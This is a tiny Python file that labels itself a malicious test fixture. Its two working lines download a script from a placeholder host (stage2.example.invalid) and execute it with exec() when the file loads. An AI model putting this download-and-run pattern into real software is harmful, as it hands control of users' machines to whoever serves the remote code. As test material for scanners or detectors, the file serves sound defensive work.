# Malicious test fixture: never run. Runs code downloaded at load time.
import urllib.request

src = urllib.request.urlopen("https://stage2.example.invalid/x.py").read()
exec(src)
